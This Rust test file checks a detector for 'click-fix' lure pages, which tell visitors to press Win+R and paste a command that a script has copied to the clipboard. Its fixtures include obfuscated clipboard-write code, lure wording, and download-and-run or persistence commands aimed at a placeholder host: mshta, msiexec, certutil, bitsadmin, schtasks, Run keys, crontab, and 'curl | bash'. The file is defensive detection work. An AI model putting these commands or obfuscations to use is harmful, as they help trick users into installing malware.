//! What pages, scripts, data and texts show, do and hold of a command on the clipboard.

use super::super::pages::Pages;
use super::{Clipboard, of_a_site, shared_line};
use crate::detectors::test_part::part;
use crate::{Detector, Findings};
use lazaret_model::{Class, Kind, Role};

/// Asserts what is found in a text of a kind: `words`, `writes`, `command`, or `high` and `medium` for the finding itself.
#[track_caller]
fn check(kind: &'static str, text: &str, expected: &str) {
    let mut part = part(kind);
    match kind {
        "json" => part.kind = Kind::new(kind, Class::Data, "application/json"),
        "text" => part.kind = Kind::new(kind, Class::Text, "text/plain"),
        _ => {}
    }
    let detector: &dyn Detector = if kind == "html" { &Pages } else { &Clipboard };
    assert!(detector.wants(&part), "{kind}");
    let mut findings = Findings::default();
    detector.inspect(&part, text.as_bytes(), 0, &mut findings).unwrap();
    let said: Vec<String> = findings
        .list()
        .iter()
        .map(|finding| match &*finding.id {
            "page.lure-words" => "words".to_owned(),
            "page.writes-clipboard" => "writes".to_owned(),
            "page.command-text" => "command".to_owned(),
            "page.click-fix" => finding.severity.to_string(),
            other => other.to_owned(),
        })
        .collect();
    assert_eq!(said.join(" "), expected, "{kind}: {text}");
}

#[test]
fn a_script_that_writes_to_the_clipboard_is_told_however_it_is_written() {
    for code in [
        "navigator.clipboard.writeText(x)",
        "navigator['clip'+'board']['write'+'Text'](x)",
        "navigator?.clipboard?.[`write` + `Text`](x)",
        "const { writeText } = navigator.clipboard; writeText(x)",
        "const c = 'clipboard', w = \"writeText\"; navigator[c][w](x)",
        "navigator[['clip','board'].join('')][['write','Text'].join('')](x)",
        "navigator['clip'.concat('board')]['write'.concat('Text')](x)",
        "navigator[atob('Y2xpcGJvYXJk')][atob('d3JpdGVUZXh0')](x)",
        "navigator['\\x63lipboard']['\\u0077riteText'](x)",
        "navigator['draobpilc'.split('').reverse().join('')]['txeTetirw'.split('').reverse().join('')](x)",
        "document.execCommand('copy')",
        "document['exec'+'Command']('co'+'py')",
        "document.execCommand(String.fromCharCode(99,111,112,121))",
        "const how = 'copy'; document.execCommand(how)",
        "event.clipboardData.setData('text/plain', x)",
        "navigator.clipboard.write([new ClipboardItem({})])",
    ] {
        check("js", code, "writes");
    }
    for code in ["navigator.clipboard.readText()", "chrome.permissions.request({permissions: ['clipboardWrite']})"] {
        check("js", code, "");
    }
}

#[test]
fn a_command_that_is_a_value_is_told_wherever_it_is_kept() {
    for (kind, text) in [
        ("json", r#"{"step": "powershell -w hidden -c echo"}"#),
        ("json", r#"{"step": "\u0070owershell -c echo"}"#),
        ("json", r#"["cmd /c start /min powershell -c \"echo\""]"#),
        ("json", r#"{"c": "C:\\Windows\\System32\\mshta.exe https:\/\/host.invalid"}"#),
        ("json", r#"{"result":"0x0000002000000018706f7765727368656c6c202d63206563686f2068656c6c6f0000"}"#),
        ("json", r#"{"c": "cG93ZXJzaGVsbCAtYyBlY2hv"}"#),
        ("json", r#"{"c": "curl -s https://host.invalid/a | bash"}"#),
        ("json", r#"{"c": "echo \"ZWNobw==\" | base64 -d | bash"}"#),
        ("js", "var c = 'power' + 'shell -c echo'"),
        ("js", "var c = `powershell -c echo`"),
        ("js", "var c = ['power','shell',' -c ','echo'].join('')"),
        ("js", "var c = 'ohce c- llehsrewop'.split('').reverse().join('')"),
        ("text", "powershell -c echo"),
        ("text", "# Cloud verification\r\npowershell -c echo"),
        ("text", "Your code is: powershell -c echo"),
    ] {
        check(kind, text, "command");
    }
    for (kind, text) in [
        ("json", r#"{"text": "To list files, run powershell -Command Get-ChildItem in a window"}"#),
        ("json", r#"{"languages": ["powershell", "bash", "cmd"]}"#),
        ("js", "hljs.register('powershell', cmd); // runs powershell -c"),
        ("js", "throw Error('please run cmd /c first')"),
    ] {
        check(kind, text, "");
    }
}

#[test]
fn a_script_that_does_it_all_is_found_by_itself() {
    let words = "root.innerHTML = '<p>Press <b>Windows</b> + <b>R</b>, then Ctrl + V</p>';";
    let copies = "navigator['clip'+'board']['write'+'Text']('power'+'shell -c echo')";
    check("js", &format!("{words}{copies}"), "high words writes command");
    check("js-embedded", &format!("{words}{copies}"), "high words writes command");
    check("js", words, "words");
    check("js", copies, "writes command");
    check("json", r#"{"title": "Verify you are human", "one": "Press Win+R", "two": "Press Ctrl+V"}"#, "words");
}

#[test]
fn pages_say_what_they_have_of_it() {
    let words = "<p>Verify you are human: Win + R, Ctrl + V</p>";
    for (text, expected) in [
        (words.to_owned(), "words"),
        (format!("{words}<button data-clipboard-text='mshta https://host.invalid/a'>x</button>"), "words command"),
        (format!("{words}<pre hidden>powershell -c echo</pre>"), "words command"),
        (
            format!("{words}<script>fetch('/c').then(t => navigator['clip'+'board']['write'+'Text'](t))</script>"),
            "high words writes",
        ),
        (
            format!("{words}<script>navigator['clip'+'board']['write'+'Text']('cmd /c echo')</script>"),
            "high words writes command",
        ),
        ("<script>navigator.clipboard.writeText('powershell -w h -c echo')</script>".to_owned(), "high writes command"),
    ] {
        check("html", &text, expected);
    }
}

#[test]
fn a_page_that_copies_what_stays_or_comes_from_elsewhere_needs_no_words() {
    for command in [
        "schtasks /create /tn a /sc onlogon /tr &quot;mshta https://host.invalid/a&quot;",
        "schtasks /create /sc minute /tn a /tr %TEMP%\\\\a.bat /f",
        "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a /d %APPDATA%\\\\a.exe",
        "winget install --manifest https://host.invalid/a.yaml",
        "msiexec /i https://host.invalid/a.msi /qn",
        "certutil -urlcache -f https://host.invalid/a a",
        "bitsadmin /transfer a https://host.invalid/a a",
        "(crontab -l; echo &quot;* * * * * curl https://host.invalid/a&quot;) | crontab -",
    ] {
        check(
            "html",
            &format!("<b onclick=\"navigator.clipboard.writeText('{command}')\">x</b>"),
            "high writes command",
        );
    }
    for (command, expected) in [
        ("winget install --id Git.Git -e --source winget", "writes"),
        ("schtasks /create /tn a /sc daily /tr C:\\\\backup\\\\a.exe", "writes"),
        ("reg add HKCU\\\\Software\\\\A /v b /d 1", "writes"),
        ("crontab -e", "writes"),
        ("crontab -l", "writes"),
        ("curl --proto '=https' --tlsv1.2 -sSf https://host.invalid | sh", "medium writes command"),
    ] {
        let command = command.replace('\'', "&quot;");
        let page = format!("<b onclick=\"navigator.clipboard.writeText('{command}')\">x</b>");
        check("html", &page, expected);
        // What stands behind it is no part of it.
        check("html", &format!("{page} <a href='https://host.invalid/'>more</a>"), expected);
    }
    for command in ["winget install --id Git.Git -e", "crontab -e", "crontab -l"] {
        let code = format!("navigator.clipboard.writeText(a); b = {{c: '{command}', d: 'https://host.invalid/'}}");
        check("js", &code, "writes");
    }
}

#[test]
fn programs_on_shares_are_told_from_paths_of_this_machine() {
    for (text, share) in [
        (r"\\\\host.invalid\\a\\b.exe", r"\\\\host.invalid\\a\\b.exe"),
        (r"run: \\host.invalid\a\b.exe", r"\\host.invalid\a\b.exe"),
        (r"c:\\aa\\b.exe&\\host.invalid\a\c.exe", r"\\host.invalid\a\c.exe"),
        (r"c:\\aa,\\host.invalid\a\c.exe", r"\\host.invalid\a\c.exe"),
        (r"c:\\aa\\b.exe \\host.invalid\a\c.exe", r"\\host.invalid\a\c.exe"),
        (r"c:\\aa\\cmd.exe /c\\host.invalid\a\c.exe", r"\\host.invalid\a\c.exe"),
        (r"c:\\aa\n\\\\host.invalid\\a\\c.exe", r"\\\\host.invalid\\a\\c.exe"),
        (r"c:\\\\aa\n\\\\host.invalid\\a\\c.exe", r"\\\\host.invalid\\a\\c.exe"),
    ] {
        assert_eq!(shared_line(text).as_deref(), Some(share), "{text}");
    }
    for text in [
        r"c:\\windows\\system32\\cmd.exe",
        r"c:\\\\windows\\\\system32\\\\cmd.exe",
        r"start c:\\program files (x86)\\vendor name\\app\\a.exe",
        r"c:\windows\system32\cmd.exe",
        "",
    ] {
        assert_eq!(shared_line(text), None, "{text}");
    }
}

#[test]
fn manuals_and_buttons_that_copy_are_honest() {
    let copy = "<script>button.onclick = () => navigator.clipboard.writeText(code.innerText)</script>";
    for (text, expected) in [
        (format!("<p>Open a terminal and run:</p><pre>curl https://host.invalid/i.sh | sh</pre>{copy}"), "writes"),
        (format!("<p>Press Win+R and type cmd. Then:</p><pre>powershell -Command Get-Item</pre>{copy}"), "words writes"),
        (
            "<p>Install it:</p><button onclick=\"navigator.clipboard.writeText('powershell -c &quot;irm host.invalid | iex&quot;')\">"
                .to_owned(),
            "medium writes command",
        ),
        (
            "<p>In your terminal:</p><button onclick=\"navigator.clipboard.writeText('curl https://host.invalid | sh')\">"
                .to_owned(),
            "medium writes command",
        ),
    ] {
        check("html", &text, expected);
    }
    let editor = "keys = {paste: 'Ctrl+V', copy: 'Ctrl+C'}; navigator.clipboard.writeText(selection)";
    check("js", editor, "writes");
}

#[test]
fn files_in_archives_and_mails_are_no_parts_of_a_site() {
    let mut part = part("js");
    for (role, of) in [
        (Role::Sample, true),
        (Role::Script, true),
        (Role::Payload, true),
        (Role::Member, false),
        (Role::Attachment, false),
        (Role::Body, false),
    ] {
        part.role = role;
        assert_eq!(of_a_site(&part), of, "{role:?}");
    }
}
